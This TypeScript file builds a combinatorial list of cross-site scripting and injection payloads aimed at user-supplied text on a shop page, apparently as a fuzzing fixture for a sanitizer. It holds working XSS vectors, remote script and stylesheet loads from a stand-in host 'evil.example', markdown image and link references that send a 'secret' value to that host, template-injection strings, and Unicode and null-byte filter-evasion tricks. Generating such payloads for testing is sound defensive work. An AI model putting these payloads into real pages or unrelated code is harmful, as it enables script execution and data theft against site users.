// Makes what an attacker might put into a text that a shopper's page shows. The
// parts are crossed, so that no hand-written list has to be long.

const EVIL = "https://evil.example";

/** What runs if anything runs: it marks the window. */
const code = (n: number) => `window.hacked=${n}`;

const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onpointerenter",
  "onanimationstart",
  "onbegin",
];

type Make = (n: number) => string;

const elements: Make[] = [
  (n) => `<script>${code(n)}</script>`,
  (n) => `<script src="${EVIL}/${n}.js"></script>`,
  (n) => `<iframe src="javascript:parent.${code(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${code(n)}</script>"></iframe>`,
  (n) => `<object data="${EVIL}/${n}"></object>`,
  (n) => `<embed src="${EVIL}/${n}">`,
  (n) => `<link rel="stylesheet" href="${EVIL}/${n}.css">`,
  (n) => `<style>@import "${EVIL}/${n}.css";*{background:url(${EVIL}/${n})}</style>`,
  (n) => `<meta http-equiv="refresh" content="0;url=${EVIL}/${n}">`,
  (n) => `<base href="${EVIL}/${n}/">`,
  (n) => `<form action="${EVIL}/${n}"><button autofocus formaction="javascript:${code(n)}">x</button></form>`,
  (n) => `<a href="javascript:${code(n)}">x</a>`,
  (n) => `<a href="${EVIL}/?q=${n}">x</a>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${code(n)}></style></table></math>`,
  (n) => `<svg><animate attributeName=href values=javascript:${code(n)}></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code(n)}>#x"/></svg>`,
  (n) => `<template><img src=x onerror=${code(n)}></template>`,
  (n) => `<video><source onerror=${code(n)} src="${EVIL}/${n}"></video>`,
  (n) => `<img srcset="${EVIL}/${n} 1x">`,
  ...handlers.flatMap((on): Make[] => [
    (n) => `<img src=x ${on}=${code(n)}>`,
    (n) => `<svg/${on}=${code(n)} tabindex=0 autofocus>`,
    (n) => `<details open ${on}=${code(n)}>`,
    (n) => `<input autofocus ${on}="${code(n)}">`,
  ]),
];

const words: Make[] = [
  (n) => `[x](javascript:${code(n)})`,
  (n) => `![x](${EVIL}/${n}.png)`,
  (n) => `[x][1]\n\n[1]: ${EVIL}/${n}?secret`,
  (n) => `![x][1]\n\n[1]: ${EVIL}/${n}.png`,
  (n) => `<${EVIL}/${n}>`,
  (n) => `${EVIL}/${n}?q=secret`,
  (n) => `${EVIL.replace("https:", "")}/${n}`,
  (n) => `data:text/html,<script>opener.${code(n)}</script>`,
  (n) => `javascript:${code(n)}//https://`,
  (n) => `java\tscript:${code(n)}`,
  (n) => `{{constructor.constructor('${code(n)}')()}}`,
  (n) => `\${${code(n)}}`,
  (n) => `url(${EVIL}/${n})`,
  (n) => `https://evil.example@${n}.example/`,
  (n) => `https://evil.example%00.shop.example/${n}`,
  (n) => `\u202ehttps://evil.example/${n}\u202c`,
];

const wraps: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<`,
  (text) => `</textarea></style></script>${text}`,
  (text) => `<!--><!-- ${text} -->`,
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (text) => text.toUpperCase().replaceAll("WINDOW.HACKED", "window.hacked"),
  (text) => text.replace(/<(\w+)/g, "<\u0000$1"),
  (text) => `\u0000${text}\uFEFF`,
  (text) => text.replace(/ /g, "/"),
];

/** payloads are all of them, each once. */
export function payloads(): string[] {
  const all: string[] = [];
  for (const make of [...elements, ...words]) for (const wrap of wraps) all.push(wrap(make(all.length)));
  return [...new Set(all)];
}
